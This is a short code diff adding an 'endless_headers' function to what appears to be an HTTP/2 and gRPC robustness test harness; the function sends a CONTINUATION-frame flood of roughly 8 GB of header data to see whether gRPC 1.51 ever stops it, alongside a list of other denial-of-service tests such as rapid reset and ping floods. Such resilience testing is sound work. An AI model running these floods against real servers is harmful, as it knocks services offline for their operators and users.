@@ -247,6 +247,17 @@ def thousands_of_connections(wire, chance):
         end.close()
 
 
+def endless_headers(wire, chance):
+    """A header block that goes on until somebody ends it. gRPC 1.51 keeps all of it. True: it was ended."""
+    end = wire.connect(h2.opening())
+    end.settimeout(60)
+    wire.say(end, h2.frame(h2.HEADERS, 0, 1, h2.call_headers(VERSION)))
+    pieces = h2.frame(h2.CONTINUATION, 0, 1, h2.literal(b"x-more", b"m" * 16_000)) * 64
+    ended = not all(wire.say(end, pieces) for _ in range(8000))  # 8 GB
+    end.close()
+    return ended
+
+
 ATTACKS = (bad_preface, garbage_frames, bit_flips, frame_sizes, broken_lengths_of_frames, settings_flood, ping_flood, rapid_reset,
            calls_that_never_end, header_bomb, broken_headers, continuation_flood, window_games, bodies, half_open, slow_call,
            other_frames, connect_and_close, thousands_of_connections)
